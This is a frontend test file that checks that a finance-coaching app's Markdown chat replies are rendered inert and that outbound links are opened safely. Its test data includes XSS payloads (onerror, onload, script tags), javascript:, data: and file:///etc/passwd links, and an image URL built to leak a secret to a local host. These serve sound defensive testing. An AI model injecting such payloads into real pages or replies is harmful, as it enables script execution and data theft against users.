import { render, screen } from '@testing-library/react';
import { describe, expect, test } from 'vitest';
import { MarkdownReply } from '@/components/conversation/markdown-reply';
import { Reply } from '@/components/conversation/reply';

const show = (text: string, live = false) =>
  render(<MarkdownReply text={text} live={live} figures={[]} />).container;

describe('a reply is inert', () => {
  test.each([
    '<img src=x onerror=alert(1)>',
    '<iframe srcdoc="<b>x</b>"></iframe>',
    '<svg onload=alert(1)></svg>',
    '<script>alert(1)</script>',
    'before <b onclick="x()">bold</b> after',
  ])('%s is text, not HTML', (html) => {
    const shown = show(html);
    expect(shown.querySelector('img, iframe, svg, script, b, [onclick], [onerror], [onload]')).toBeNull();
    expect(shown.textContent).toContain(html.slice(0, 7));
  });

  test('an image is a link with its words, so that nothing is fetched', () => {
    const shown = show('![chart](http://127.0.0.1:9/leak?d=SECRET)');
    expect(shown.querySelector('img')).toBeNull();
    expect(shown.querySelector('a')?.textContent).toBe('chart');
  });

  test.each(['javascript:alert(1)', 'data:text/html,x', 'vbscript:x', 'file:///etc/passwd'])(
    'a link to %s goes nowhere',
    (href) => {
      const shown = show(`[click](${href})`);
      expect(shown.querySelector('a')).toBeNull();
      expect(shown.textContent).toContain('click');
    },
  );

  test('a link that leaves FinCoach opens a tab that knows nothing of this one', () => {
    const link = show('[SEBI](https://www.sebi.gov.in/)').querySelector('a');
    expect(link?.target).toBe('_blank');
    expect(link?.rel.split(' ')).toEqual(expect.arrayContaining(['noopener', 'noreferrer']));
  });
});

describe('a reply is Markdown', () => {
  test('lists, emphasis and tables are elements', () => {
    const shown = show('Two things:\n\n- **one**\n- two\n\n| a | b |\n|---|---|\n| 1 | 2 |');
    expect(shown.querySelectorAll('li')).toHaveLength(2);
    expect(shown.querySelector('td')?.textContent).toBe('1');
  });

  test('half a construct is shown while it streams', () => {
    expect(show('Keep **one mon', true).textContent).toContain('one mon');
  });
});

test('a reply’s words are there before what shows Markdown is', async () => {
  const { container } = render(<Reply text="Keep **one month** aside." live={false} />);
  expect(container.textContent).toBe('Keep **one month** aside.');
  expect((await screen.findByText('one month')).tagName).toBe('STRONG');
});
